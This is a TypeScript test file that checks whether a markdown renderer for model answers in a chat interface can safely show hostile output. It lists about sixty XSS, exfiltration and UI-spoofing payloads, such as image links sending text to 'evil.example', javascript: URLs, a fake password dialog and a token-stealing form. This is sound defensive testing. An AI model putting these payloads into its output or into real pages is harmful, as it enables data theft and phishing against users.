// What a model may write to harm: nothing of it runs, loads, or takes on the look of the interface.
import { describe, expect, it } from "vitest";
import { ProseRenderer } from "../src/markdown/prose";

const PAYLOADS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  "<img src='https://evil.example/steal?words'>",
  "<img srcset='https://evil.example/a 1x'>",
  "![words](https://evil.example/steal?words)",
  "![x](javascript:alert(1))",
  "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  "[click](javascript:alert(1))",
  "[click](JaVaScRiPt:alert(1))",
  "[click](java\tscript:alert(1))",
  "[click](&#106;avascript:alert(1))",
  "[click](data:text/html,<script>alert(1)</script>)",
  "[click](vbscript:msgbox)",
  "[click](file:///etc/passwd)",
  "[click](//evil.example/x)",
  "[click](#/settings)",
  "[click](/api/settings)",
  "<a href='javascript:alert(1)'>x</a>",
  "<a href='https://ok.example' onclick=alert(1) target=_self>x</a>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
  "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<math href='javascript:alert(1)'>x</math>",
  "<iframe src='javascript:alert(1)'></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data='data:text/html,<script>alert(1)</script>'></object>",
  "<embed src='javascript:alert(1)'>",
  "<form action='https://evil.example'><input name=token><button>Send</button></form>",
  "<button class='btn primary' formaction='javascript:alert(1)'>OK</button>",
  "<input autofocus onfocus=alert(1)>",
  "<video src=x onerror=alert(1)></video>",
  "<audio src='https://evil.example/a.mp3' autoplay></audio>",
  "<style>body{background:url(https://evil.example/x)}</style>",
  "<div style='position:fixed;inset:0;background:url(https://evil.example)'>x</div>",
  "<div class='scrim'>x</div><div class='dialog floating confirm'>Enter your password</div>",
  "<link rel=stylesheet href='https://evil.example/x.css'>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<base href='https://evil.example/'>",
  "<details open ontoggle=alert(1)><summary>x</summary></details>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<body onload=alert(1)>",
  "<p id='page' name='app'>clobber</p><form id=document></form>",
  "<template><script>alert(1)</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
  "<textarea><img src=x onerror=alert(1)></textarea>",
  "<select><option onclick=alert(1)>x</select>",
  "<x-widget onclick=alert(1)>x</x-widget>",
  "```html\n<script>alert(1)</script>\n```",
  "```<img src=x onerror=alert(1)>\ncode\n```",
  "$\\href{javascript:alert(1)}{x}$",
  "$$\\includegraphics{https://evil.example/x.png}$$",
  "$</span><img src=x onerror=alert(1)>$",
  "[x]: javascript:alert(1)\n\n[x]",
  "<https://ok.example\"onmouseover=alert(1)>",
  "<!--><img src=x onerror=alert(1)>-->",
  "[1](<javascript:alert(1)>)",
];

const LOOKS = new Set(["link", "code", "copy", "btn", "ghost", "small", "icon", "wide", "r", "math-inline", "math-block", "footnote", "plain", "cite", "math-raw", "wrap", "task", "note-mark", "note-back"]);
const TAGS = new Set("A BLOCKQUOTE BR BUTTON CODE DEL DETAILS DIV EM FIGCAPTION FIGURE H3 H4 HR INPUT LI OL P PRE SPAN STRONG SUMMARY SUP svg path TABLE TBODY TD TH THEAD TR UL".split(" "));

function dangers(root: HTMLElement): string[] {
  const found: string[] = [];
  for (const element of root.querySelectorAll("*")) {
    if (!TAGS.has(element.tagName)) found.push(`<${element.tagName}>`);
    if (element.tagName === "BUTTON" && !element.matches(".copy, .wrap, .cite, .note-mark, .note-back")) found.push("a button");
    if (element.tagName === "INPUT" && !element.matches("[type=checkbox][disabled]")) found.push("a field");
    for (const { name, value } of element.attributes) {
      if (/^on|^style$|^id$|^name$|^src|^srcset$|^formaction$|^action$|xlink/i.test(name)) found.push(`${name}="${value}"`);
      if (name === "href" && !/^(?:https?:\/\/|mailto:)/.test(value)) found.push(`href="${value}"`);
    }
    for (const look of element.classList) if (!LOOKS.has(look)) found.push(`class ${look}`);
    if (element.tagName === "A" && (element.getAttribute("target") !== "_blank" || element.getAttribute("rel") !== "noopener noreferrer")) {
      found.push("a link that takes the page away");
    }
  }
  return found;
}

describe("a hostile answer", () => {
  it("is tried in at least 38 ways", () => expect(PAYLOADS.length).toBeGreaterThanOrEqual(38));

  for (const payload of PAYLOADS) {
    it(`does no harm: ${payload.slice(0, 60)}`, () => {
      for (const step of [payload.length, 9]) {
        const root = document.createElement("div");
        const renderer = new ProseRenderer(root, (number) => `Source ${number}`);
        for (let end = step; end < payload.length + step; end += step) {
          renderer.update(payload.slice(0, end));
          renderer.flush();
          expect(dangers(root)).toEqual([]);
        }
        renderer.finish(payload);
        expect(dangers(root)).toEqual([]);
      }
    });
  }

  it("leaves a picture as a link to it", () => {
    const root = document.createElement("div");
    new ProseRenderer(root).finish("![A map](https://example.org/map.png)");
    expect(root.querySelector("a")?.getAttribute("href")).toBe("https://example.org/map.png");
    expect(root.textContent).toBe("A map");
  });
});
